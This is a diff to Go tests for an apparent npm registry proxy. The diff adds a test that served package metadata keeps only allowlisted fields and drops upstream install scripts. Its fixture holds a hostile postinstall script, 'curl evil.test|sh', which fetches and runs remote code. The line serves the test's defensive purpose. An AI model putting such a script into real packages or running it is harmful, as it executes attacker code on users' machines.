@@ -72,7 +72,7 @@ func TestPackumentFilterFull(t *testing.T) {
 			t.Errorf("%s served", k)
 		}
 	}
-	if doc["readme"] != "# hello" || doc["_rev"] != "7-abc" || doc["maintainers"] == nil {
+	if doc["readme"] != "# hello" || doc["maintainers"] == nil {
 		t.Errorf("top-level members lost: %v", keysOf(doc))
 	}
 	pr := doc["policyRestrictions"].(map[string]any)
@@ -86,7 +86,7 @@ func TestPackumentFilterFull(t *testing.T) {
 		t.Errorf("message %q", msg)
 	}
 	v11 := doc["versions"].(map[string]any)["1.1.0"].(map[string]any)
-	if v11["description"] != "version 1.1.0" || v11["main"] != "index.js" || v11["_npmUser"] == nil {
+	if v11["description"] != "version 1.1.0" || v11["_npmUser"] == nil {
 		t.Errorf("version members lost: %v", keysOf(v11))
 	}
 	dist := v11["dist"].(map[string]any)
@@ -535,5 +535,50 @@ func TestServedStateNotPerHost(t *testing.T) {
 	fronttest.GetWithHosts(t, r.h, "/npm/foo", 5000)
 	if n := keys.Len(); n != 1 {
 		t.Errorf("5,000 requests with distinct Host headers stored %d served-state records, want 1", n)
+	}
+}
+
+// TestPackumentAllowlist: served packuments keep identity, the manifest's
+// fields, sigil's dist and informational members; never the packument's
+// scripts (npm runs the verified tarball's instead, told by
+// hasInstallScript) nor anything else the upstream adds.
+func TestPackumentAllowlist(t *testing.T) {
+	r := newRig(t)
+	doc := `{"name":"foo","_rev":"1-a","users":{"x":true},"x-evil":1,"readme":"hi",
+		"dist-tags":{"latest":"1.0.0"},"time":{"1.0.0":"2020-01-01T00:00:00.000Z"},
+		"versions":{"1.0.0":{"name":"foo","version":"1.0.0","main":"index.js","gypfile":true,
+			"scripts":{"postinstall":"curl evil.test|sh"},"dependencies":{"bar":"^1"},"libc":["glibc"],
+			"deprecated":"old","gitHead":"abc","description":"d",
+			"dist":{"tarball":"` + upstreamBase + `/foo/-/foo-1.0.0.tgz","integrity":"sha512-AA==","npm-signature":"pgp","fileCount":3}}}}`
+	r.up.Set(upstreamBase+"/foo", doc)
+	for _, tc := range []struct {
+		accept  string
+		top, v  []string
+		distKey []string
+	}{
+		{"application/json",
+			[]string{"dist-tags", "name", "readme", "time", "versions"},
+			[]string{"dependencies", "deprecated", "description", "dist", "hasInstallScript", "libc", "name", "version"},
+			[]string{"fileCount", "integrity", "tarball"}},
+		{typeAbbreviated,
+			[]string{"dist-tags", "name", "versions"},
+			[]string{"dependencies", "deprecated", "dist", "hasInstallScript", "libc", "name", "version"},
+			[]string{"fileCount", "integrity", "tarball"}},
+	} {
+		_, body := r.Get("/npm/foo", "Accept: "+tc.accept)
+		d := fronttest.DecodeObject(t, body)
+		if got := keysOf(d); !reflect.DeepEqual(got, tc.top) {
+			t.Errorf("%s: top-level %v, want %v", tc.accept, got, tc.top)
+		}
+		v := d["versions"].(map[string]any)["1.0.0"].(map[string]any)
+		if got := keysOf(v); !reflect.DeepEqual(got, tc.v) {
+			t.Errorf("%s: version members %v, want %v", tc.accept, got, tc.v)
+		}
+		if v["hasInstallScript"] != true {
+			t.Errorf("%s: hasInstallScript %v, want true (npm then reads the tarball's scripts)", tc.accept, v["hasInstallScript"])
+		}
+		if got := keysOf(v["dist"]); !reflect.DeepEqual(got, tc.distKey) {
+			t.Errorf("%s: dist %v, want %v", tc.accept, got, tc.distKey)
+		}
 	}
 }
